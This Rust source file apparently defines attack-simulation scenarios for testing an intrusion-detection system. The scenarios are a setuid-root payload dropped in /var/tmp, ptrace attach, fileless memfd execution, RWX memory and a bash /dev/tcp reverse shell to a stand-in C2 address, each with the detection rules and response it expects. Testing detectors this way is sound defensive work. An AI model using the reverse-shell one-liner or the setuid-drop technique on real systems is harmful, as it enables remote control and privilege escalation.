//! Process behaviours: a dropped setuid payload, ptrace, fileless and RWX execution, a reverse
//! shell. The raw syscalls come from the test actor (tests/src/bin/actor.rs).

use std::{
    io::{Read, Write},
    net::TcpListener,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, bail};

use super::{Cleanup, Expect, Scenario, Severity, actor, cleanup::unique};
use crate::run::stack::{Stack, output_of};

/// A copy of the actor dropped in /var/tmp, made setuid root, run by a test account, which
/// then sets its ids to root.
pub const SETUID_DROP: Scenario = Scenario {
    name: "setuid-drop",
    technique: "T1548.001",
    description: "a setuid-root binary dropped in /var/tmp and run by an unprivileged account",
    expect: Expect {
        rules: &[
            "qsc-setuid-bit-set",
            "qsc-exec-from-world-writable",
            "qsc-setid-to-root",
        ],
        min_severity: Severity::Critical,
        confidence: (0.99, 1.0),
        action: Some("quarantine"),
    },
    perform: setuid_drop,
    patience: Duration::from_secs(20),
};

fn setuid_drop(stack: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
    let payload = drop_payload(cleanup, &actor(stack), "payload")?;
    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o4755))?;
    let mut cmd = as_test_user(cleanup, "s")?;
    output_of(cmd.arg(&payload).arg("setuid-root")).map(drop)
}

/// Copies `source` into a new folder `/var/tmp/qscatk-*` as `name` (mode 0755); the folder is
/// removed at the end.
pub fn drop_payload(cleanup: &mut Cleanup, source: &Path, name: &str) -> anyhow::Result<PathBuf> {
    let dir = PathBuf::from(format!("/var/tmp/{}", unique("")));
    cleanup.path(&dir);
    std::fs::create_dir_all(&dir)?;
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
    let payload = dir.join(name);
    std::fs::copy(source, &payload)
        .with_context(|| format!("cannot drop {} as {}", source.display(), payload.display()))?;
    Ok(payload)
}

/// `setpriv` running the program given next as a new test account `qscatk*<suffix>`: the
/// cortex never acts on root's processes, so behaviours whose playbooks kill run unprivileged.
fn as_test_user(cleanup: &mut Cleanup, suffix: &str) -> anyhow::Result<Command> {
    let user = unique(suffix);
    cleanup.user(&user)?;
    let mut cmd = Command::new("setpriv");
    cmd.args(["--reuid", &user, "--regid", &user, "--init-groups"]);
    Ok(cmd)
}

/// PTRACE_ATTACH to a `sleep` the scenario started.
pub const PTRACE_ATTACH: Scenario = Scenario {
    name: "ptrace-attach",
    technique: "T1055.008",
    description: "ptrace attach to another process",
    expect: Expect {
        rules: &["qsc-ptrace-attach"],
        // One attach alone is LOW: profilers and debuggers attach too (qsc-ptrace-attach's LR).
        min_severity: Severity::Low,
        confidence: (0.1, 0.9),
        action: None,
    },
    perform: |stack, cleanup| {
        let victim = cleanup.child(Command::new("sleep").arg("30").spawn()?);
        output_of(
            Command::new(actor(stack))
                .arg("ptrace-attach")
                .arg(victim.to_string()),
        )
        .map(drop)
    },
    patience: Duration::from_secs(20),
};

/// /bin/true copied into a memfd and executed from it.
pub const MEMFD_EXEC: Scenario = Scenario {
    name: "memfd-exec",
    technique: "T1620",
    description: "fileless execution: a program run from memfd_create memory",
    expect: Expect {
        rules: &["qsc-memfd-exec", "qsc-memfd-create"],
        // Running a program from memory is HIGH or above alone, so the kill playbook acts.
        min_severity: Severity::High,
        confidence: (0.8, 1.0),
        action: Some("kill"),
    },
    perform: |stack, cleanup| {
        let mut cmd = as_test_user(cleanup, "m")?;
        output_of(cmd.arg(actor(stack)).args(["memfd-exec", "/bin/true"])).map(drop)
    },
    patience: Duration::from_secs(20),
};

/// An anonymous mapping both writable and executable, held for a second.
pub const RWX_MEMORY: Scenario = Scenario {
    name: "rwx-memory",
    technique: "T1055",
    description: "writable and executable memory mapped in a process",
    expect: Expect {
        rules: &["qsc-rwx-memory"],
        // One W+X mapping alone is LOW: JITs and old code map it too (qsc-rwx-memory's LR).
        min_severity: Severity::Low,
        confidence: (0.1, 0.9),
        action: None,
    },
    perform: |stack, _| output_of(Command::new(actor(stack)).args(["mmap-rwx", "1000"])).map(drop),
    patience: Duration::from_secs(20),
};

/// The "command and control" address of the reverse shell: TEST-NET-2, added to `lo` for the
/// scenario, so the connection stays on this host but is not a loopback one.
const C2_ADDRESS: &str = "198.51.100.77";

/// bash connects to a listener of the scenario and executes a shell on the socket.
pub const REVERSE_SHELL: Scenario = Scenario {
    name: "reverse-shell",
    technique: "T1059.004",
    description: "reverse shell: connect out, then exec a shell with its fds on the socket",
    expect: Expect {
        rules: &["qsc-reverse-shell"],
        // A reverse shell is HIGH or above alone, so the containment playbook acts.
        min_severity: Severity::High,
        confidence: (0.8, 1.0),
        action: Some("kill"),
    },
    perform: reverse_shell,
    patience: Duration::from_secs(20),
};

fn reverse_shell(_: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
    cleanup.loopback_address(C2_ADDRESS)?;
    let listener = TcpListener::bind((C2_ADDRESS, 0))?;
    let port = listener.local_addr()?.port();
    listener.set_nonblocking(true)?;
    let shell = as_test_user(cleanup, "r")?
        .arg("bash")
        .arg("-c")
        .arg(format!(
            "exec 3<>/dev/tcp/{C2_ADDRESS}/{port}; exec /bin/sh <&3 >&3 2>&3"
        ))
        .stdin(Stdio::null())
        .spawn()?;
    cleanup.child(shell);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut conn = loop {
        match listener.accept() {
            Ok((conn, _)) => break conn,
            Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => {
                if Instant::now() > deadline {
                    bail!("the reverse shell did not connect within 10 s");
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(err) => return Err(err.into()),
        }
    };
    conn.set_nonblocking(false)?;
    conn.set_read_timeout(Some(Duration::from_secs(10)))?;
    conn.write_all(b"echo qscatk-shell-$$; exit\n")?;
    let mut answer = String::new();
    conn.read_to_string(&mut answer)?;
    if !answer.contains("qscatk-shell-") {
        bail!("the reverse shell did not answer (got {answer:?})");
    }
    Ok(())
}
